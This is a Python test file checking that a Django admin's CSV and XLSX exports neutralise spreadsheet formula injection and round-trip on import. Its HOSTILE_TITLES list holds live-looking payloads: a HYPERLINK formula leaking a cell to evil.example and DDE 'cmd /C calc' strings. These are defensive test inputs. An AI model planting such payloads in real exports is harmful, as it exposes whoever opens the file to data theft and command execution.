"""Spreadsheet exports that cannot run formulae, and that import back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheets import neutralise, restore
from programs.models import Program
from programs.resources import ProgramResource
from tests.factories import ProgramFactory

HOSTILE_TITLES = [
    "=1+1",
    "==1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1, "Apply here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''already quoted",
]
HARMLESS_TITLES = ["MSc Machine Learning", "'Quoted' titles stay", "Data = insight", "1+1"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE_TITLES)
def test_text_a_spreadsheet_would_run_goes_out_as_text(text):
    assert neutralise(text).startswith("'")
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", [*HARMLESS_TITLES, 12, None, -3])
def test_everything_else_goes_out_unchanged(value):
    assert neutralise(value) == value
    assert restore(value) == value


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_reads_back_exactly(text):
    assert not neutralise(text).startswith(FORMULA_STARTS)
    assert restore(neutralise(text)) == text


@pytest.fixture
def editor_client(client, editor):
    return client


def as_read_back(text: str, file_format: str) -> str:
    """XML, and so XLSX, stores a carriage return as a line feed."""
    return text.replace("\r", "\n") if file_format == "xlsx" else text


@pytest.fixture
def hostile_programmes(db):
    return [
        ProgramFactory(title=title, slug=f"programme-{number}", editor_notes=title)
        for number, title in enumerate([*HOSTILE_TITLES, *HARMLESS_TITLES])
    ]


def admin_export(client, file_format: str) -> bytes:
    formats = {"csv": "0", "xlsx": "1"}
    fields = {f"programresource_{name}": "on" for name in ProgramResource().get_export_order()}
    response = client.post(
        reverse("admin:programs_program_export"),
        {"format": formats[file_format], "resource": "0", **fields},
    )
    assert response.status_code == 200, response.content[:500]
    return response.content


def exported_cells(content: bytes, file_format: str) -> list[dict]:
    if file_format == "csv":
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = sheet.iter_rows()
    headers = [cell.value for cell in next(rows)]
    return [dict(zip(headers, row, strict=True)) for row in rows]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_export_runs_no_formula_and_keeps_every_value(
    editor_client, hostile_programmes, file_format
):
    rows = exported_cells(admin_export(editor_client, file_format), file_format)

    titles = {}
    for row in rows:
        title = row["title"].value if file_format == "xlsx" else row["title"]
        if file_format == "xlsx":
            assert row["title"].data_type == "s", "a text cell, never a formula cell"
        assert not str(title).startswith(FORMULA_STARTS), title
        titles[title] = row
    assert set(titles) == {
        as_read_back(neutralise(title), file_format)
        for title in [*HOSTILE_TITLES, *HARMLESS_TITLES]
    }
    assert "'=HYPERLINK(" + HOSTILE_TITLES[2][len("=HYPERLINK(") :] in titles


def test_xlsx_export_keeps_numbers_as_numbers(editor_client, hostile_programmes):
    rows = exported_cells(admin_export(editor_client, "xlsx"), "xlsx")

    assert all(isinstance(row["duration_months"].value, int) for row in rows)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_export_imported_again_changes_nothing(
    editor_client, hostile_programmes, upload_import, file_format
):
    # A carriage return inside a cell comes back as a line feed: XML stores it so, and
    # the import reads its upload back as text. Every other value must come back as it was.
    Program.objects.filter(title__contains="\r").delete()
    before = {p.slug: (p.title, p.editor_notes, p.revision) for p in Program.objects.all()}
    content = admin_export(editor_client, file_format)

    response, job = upload_import(
        editor_client,
        content,
        file_format={"csv": "0", "xlsx": "1"}[file_format],
        name=f"programmes.{file_format}",
    )

    assert response.status_code == 200
    assert job.finished_ok, job.errors
    assert job.totals["skip"] == len(before), "every row is unchanged"
    assert job.totals["new"] == job.totals["update"] == 0
    after = {p.slug: (p.title, p.editor_notes, p.revision) for p in Program.objects.all()}
    assert after == before
